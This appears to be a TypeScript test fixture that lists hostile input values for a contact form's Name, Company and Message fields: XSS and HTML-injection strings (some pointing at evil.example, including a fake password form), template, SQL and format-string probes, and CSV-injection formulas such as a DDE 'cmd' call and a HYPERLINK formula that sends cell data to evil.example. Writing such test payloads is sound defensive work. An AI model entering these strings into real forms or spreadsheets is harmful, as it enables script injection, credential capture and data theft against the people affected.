/** Text that is markup, a template, a pattern or a query to somebody. */
import { each } from './hostile-value.ts';

export const HTML_IN_MAIL = each(
  ['Name', 'Company', 'Message'],
  [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '"><iframe src=//evil.example></iframe>',
    '</td></tr></table><form action=//evil.example><input name=password>',
    '</title><script>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>',
    '<meta http-equiv=refresh content=0;url=//evil.example>',
    '<base href=//evil.example>',
    '<style>*{display:none}</style>',
    '<link rel=stylesheet href=//evil.example>',
    '<!-- <b>',
    ']]><b>',
    '&lt;script&gt;',
    '&#60;script&#62;',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '{{message}}{{details}}{{title}}',
    '{{constructor.constructor("x")()}}',
    `\${7*7}<%= 7*7 %>#{7*7}`,
    "$&$1$'$`$$",
    "'); DROP TABLE letters; --",
    '%s%n%x%d',
    'https://evil.example/?a=1&b=<2>',
  ],
  200,
);

/** What a spreadsheet calculates (OWASP, CSV Injection). */
export const CSV_FORMULAS = each(
  ['Name', 'Company', 'Message'],
  [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=1+1',
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    '=1+1";=1+1',
    '"=1+1',
    '","=1+1","',
    'a;=1+1',
    'a\n=1+1'.replace('\n', '|'),
    '\uff1d1+1',
    '\uff0b1+1',
    '\uff0d1+1',
    '\uff20SUM(1,1)',
    "'=1+1",
  ],
  200,
);
